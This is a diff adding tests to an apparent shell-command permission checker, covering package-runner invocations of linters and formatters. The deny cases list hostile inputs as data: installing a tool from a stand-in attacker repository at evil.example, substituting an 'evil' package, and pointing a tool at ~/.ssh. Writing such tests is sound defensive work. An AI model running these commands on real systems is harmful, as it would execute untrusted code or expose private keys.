@@ -80,3 +80,34 @@ describe('a script written with its text shown, then run', () => {
     expect((await run(command)).decision.verdict).not.toBe('allow');
   });
 });
+
+describe('a tool run by a package runner (the runner runs nothing before the tool; the tool judged as its own segment)', () => {
+  it.each([
+    'uvx ruff check .',
+    'pipx run black --check .',
+    'uv tool run ruff format --check .',
+    'pnpm dlx prettier --check .',
+    'pnpm exec prettier --check .',
+    'yarn dlx eslint .',
+    'bun x prettier --check .',
+  ])('allows %s', async (command) => {
+    expect((await run(command)).decision.verdict).toBe('allow');
+  });
+
+  it.each([
+    // An unknown tool, a version pin (another package than the one known), another package or index.
+    'uvx some-unknown-tool',
+    'uvx ruff@0.5.0 check .',
+    'uvx --from git+https://evil.example/x ruff check .',
+    'pipx run --spec evil black .',
+    'pnpm dlx --package=evil prettier --check .',
+    // What the tool is given is judged as the tool's own command.
+    'uvx ruff check ~/.ssh',
+    'pipx run some-unknown-tool',
+    // A script run by the same runner earlier in the line may rewrite the tool's config.
+    'bun run x.ts && bun x prettier --check .',
+    'python3 w.py && uvx ruff check .',
+  ])('does not allow %s', async (command) => {
+    expect((await run(command)).decision.verdict).not.toBe('allow');
+  });
+});
